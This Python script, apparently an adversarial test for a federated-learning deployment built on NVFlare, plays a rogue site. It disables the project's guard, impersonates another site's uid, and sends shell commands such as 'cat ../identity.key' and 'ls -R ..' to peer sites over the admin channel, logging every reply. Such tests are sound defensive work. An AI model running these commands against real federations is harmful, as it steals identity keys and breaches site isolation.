"""`python evil_site.py HOME NAME OUT TARGET...`: a kit's process in the hands of somebody who asks others for too much.

What he is answered goes to OUT, one JSON a line.
"""

from __future__ import annotations

import itertools
import json
import os
import runpy
import sys
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

from nvflare.apis.event_type import EventType

from pbmvfl.deploy.nvflare import guard, keeper, readiness
from pbmvfl.deploy.site.folder import SiteFolder

HOME, NAME, OUT, TARGETS = SiteFolder.at(sys.argv[1]), sys.argv[2], Path(sys.argv[3]), sys.argv[4:]
QUESTIONS = ("cat ../policy.toml", "cat ../identity.key", "ls -R ..")


def attack(cell: Any) -> None:
    from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey
    from nvflare.fuel.f3.cellnet.utils import new_cell_message
    from nvflare.private.admin_defs import Message
    from nvflare.private.defs import SysCommandTopic
    from nvflare.private.fed.client.shell_cmd import ShellCommandProcessor

    with OUT.open("w") as out:

        def note(**said: Any) -> None:
            out.write(json.dumps(said) + "\n")
            out.flush()

        # That NVFlare's own processor would have told: here it is asked at home.
        own = ShellCommandProcessor().process(Message(SysCommandTopic.SHELL, "cat ../policy.toml"), None)
        note(target="", topic="control", code="", answer=str(own.body))

        def ask(target: str, asked: str) -> dict[str, str]:
            silent = 0
            for _ in range(120):  # a site that was cut off a moment ago comes back
                request = new_cell_message({}, Message(topic=SysCommandTopic.SHELL, body=asked))
                reply = cell.send_request(
                    target=target, channel="admin", topic=SysCommandTopic.SHELL, request=request, timeout=3.0
                )
                code = str(reply.get_header(MessageHeaderKey.RETURN_CODE))
                silent += code == "timeout"
                if code not in ("target_unreachable", "comm_error", "timeout") or silent:
                    break
                time.sleep(0.5)
            answer = getattr(reply.payload, "body", reply.payload)
            return {"target": target, "topic": asked, "code": code, "answer": str(answer)}

        pairs = list(itertools.product(TARGETS, QUESTIONS))
        with ThreadPoolExecutor(len(pairs)) as pool:  # all at once: most are never answered
            for said in pool.map(ask, *zip(*pairs, strict=True)):
                note(**said)
        note(target="", topic="end", code="", answer="")


def handle(_: Any, event_type: str, fl_ctx: Any) -> None:
    if event_type == EventType.SYSTEM_START:
        engine = fl_ctx.get_engine()
        cell = getattr(engine, "cell", None) or engine.client.cell

        def later() -> None:
            time.sleep(1)  # until the registration that this event tells of is complete
            attack(cell)

        threading.Thread(target=later, daemon=True).start()


readiness.Readiness.handle_event = handle  # type: ignore[method-assign, assignment]
guard.install = lambda parties, lead: None  # noqa: ARG005
command = [each.replace(f"uid={HOME.name}", f"uid={NAME}") for each in keeper.command(HOME)]
at = command.index("-m")
sys.argv = command[at + 1 :]
os.chdir(HOME.kit)
runpy.run_module(command[at + 1], run_name="__main__", alter_sys=True)
